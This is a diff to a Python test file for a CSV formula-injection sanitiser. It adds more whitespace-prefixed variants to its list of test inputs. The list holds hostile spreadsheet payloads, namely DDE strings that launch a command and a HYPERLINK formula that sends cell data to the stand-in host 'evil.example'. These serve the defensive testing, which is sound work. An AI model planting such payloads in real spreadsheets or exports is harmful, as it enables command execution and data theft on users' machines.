@@ -6,7 +6,7 @@ import csv
 import io
 
 import pytest
-from hypothesis import given
+from hypothesis import example, given
 from hypothesis import strategies as st
 
 from bot.reading import safe_cell
@@ -14,7 +14,8 @@ from bot.reading import safe_cell
 FORMULAS = [
     "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?d="&A1,"Factuur")', "+31 6 12345678",
     "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1",
-    "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
+    "\u200b=1+1", "\ufeff=1+1", "\x0c=1+1", "\u3000=1+1", "\x85 =1+1",
+    "＝1+1", "＋1", "－1", "＠SUM(1)",
 ]  # fmt: skip
 
 
@@ -31,6 +32,7 @@ def test_other_words_are_left_alone(written: str) -> None:
 
 
 @given(st.text(max_size=20))
+@example("\x0c=")
 def test_no_cell_begins_as_a_formula_does(written: str) -> None:
     """Whatever it is, and after the way through a CSV file too."""
     out = io.StringIO()
